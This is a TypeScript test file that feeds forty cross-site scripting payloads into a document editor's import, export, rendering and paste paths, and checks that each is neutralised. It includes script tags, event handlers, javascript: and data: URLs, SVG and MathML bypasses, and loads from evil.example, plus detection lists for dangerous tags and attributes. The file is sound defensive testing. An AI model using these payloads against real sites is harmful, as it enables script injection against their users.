// @vitest-environment jsdom
// What people who wish no good put into files and on clipboards: forty payloads, each imported as HTML and as
// Markdown, exported, drawn for readers, and pasted into an editor. Nothing of them may run anywhere.

import { describe, expect, it } from "vitest";
import * as Y from "yjs";
import { readingOf } from "../../lib/render/reading.ts";
import { exported, imported } from "../../sync-server/documents/convert.ts";
import { open } from "../editor/support.ts";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/a 1x" src=x>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1)></animate></svg>",
  "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='></use></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' java\nscript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x01;javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='https://ok.example' onclick='alert(1)' onmouseover=alert(1)>x</a>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='data:text/html,<script>alert(1)</script>'>",
  "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)><p>x</p></body>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href='https://evil.example/'><a href='x'>x</a>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>@import 'https://evil.example/x.css'; p{background:url(javascript:alert(1))}</style>",
  "<p style='background:url(javascript:alert(1));width:expression(alert(1))'>x</p>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
  "<!--><img src=x onerror=alert(1)>--><p>x</p>",
  "<template><script>alert(1)</script></template><p id=content name=body class='x\" onclick=alert(1)'>x</p>",
];

const FORBIDDEN =
  "script, style, iframe, frame, object, embed, form, base, link, meta[http-equiv=refresh], template, foreignObject, " +
  "animate, set, use, video, audio, source, math maction";
const ADDRESSES = ["href", "src", "srcset", "action", "formaction", "data", "xlink:href", "poster"];
/** What may stand in a page of ours: what people follow, files of this server, and names beside the page. */
const HARMLESS = /^(https?:\/\/|mailto:|tel:|#|\/(?!\/)|blob:|[\w.-]+$)/i;

/** Everything about these elements that could run something, or fetch something from elsewhere. */
function dangers(root: ParentNode): string[] {
  const found = [...root.querySelectorAll(FORBIDDEN)].map(({ nodeName }) => nodeName);
  for (const element of root.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || name === "srcdoc") found.push(`${name}=${value}`);
      if (ADDRESSES.includes(name) && value !== "" && !HARMLESS.test(value)) found.push(`${name}=${value}`);
      if (name === "style" && /url\(|expression|@import/i.test(value)) found.push(`style=${value}`);
    }
    if (element.nodeName === "IMG" && /^https?:/i.test(element.getAttribute("src") ?? ""))
      found.push("a foreign picture");
  }
  return found;
}

const pageOf = (html: string) => new DOMParser().parseFromString(html, "text/html");

it("knows a danger when it sees one, in every payload but those that are only comments or text", () => {
  expect(PAYLOADS).toHaveLength(40);
  expect(dangers(pageOf("<p>x</p><a href='https://ok.example'>y</a>"))).toEqual([]);
  const seen = PAYLOADS.filter((payload) => dangers(pageOf(payload)).length > 0);
  expect(seen.length).toBeGreaterThanOrEqual(36);
});

describe.each(PAYLOADS)("%s", (payload) => {
  it.each(["html", "md"] as const)(
    "as a file (%s) becomes a document that runs nothing, for nobody",
    (as) => {
      const { update } = imported({ source: `before\n\n${payload}\n\nafter`, as, name: payload });
      const doc = new Y.Doc();
      Y.applyUpdate(doc, update);
      const drawn = JSON.stringify(readingOf(doc).blocks);
      expect(drawn).not.toMatch(
        /"(script|style|iframe|object|embed|form|svg)"|"on[a-z]+":|"(href|src)":"(?!https?:|mailto:|tel:|#|\/|x")/i,
      );
      for (const out of ["html", "md"] as const) {
        const { text } = exported({ parts: [update], as: out, files: "/api/docs/x/files/" });
        if (out === "html") {
          const page = pageOf(text);
          // The page brings its own style; nothing of the document's is in it.
          for (const own of page.head.querySelectorAll("style")) {
            expect(own.textContent).not.toMatch(/evil|alert/);
            own.remove();
          }
          expect(dangers(page)).toEqual([]);
          expect(page.body.textContent).toContain("before");
        } else {
          // And read back, as somebody else's program would.
          const again = imported({ source: text, as: "md", name: "" });
          expect(
            dangers(pageOf(exported({ parts: [again.update], as: "html", files: "" }).text).body),
          ).toEqual([]);
        }
      }
      doc.destroy();
    },
  );

  it("pasted into an editor runs nothing, and stays out of what is copied from it", () => {
    const { editor } = open();
    editor.view.pasteHTML(`<p>before</p>${payload}<p>after</p>`, new Event("paste") as ClipboardEvent);
    expect(dangers(editor.view.dom)).toEqual([]);
    expect(dangers(pageOf(editor.getHTML()))).toEqual([]);
    expect(editor.getText()).toContain("after");
    editor.destroy();
  });
});
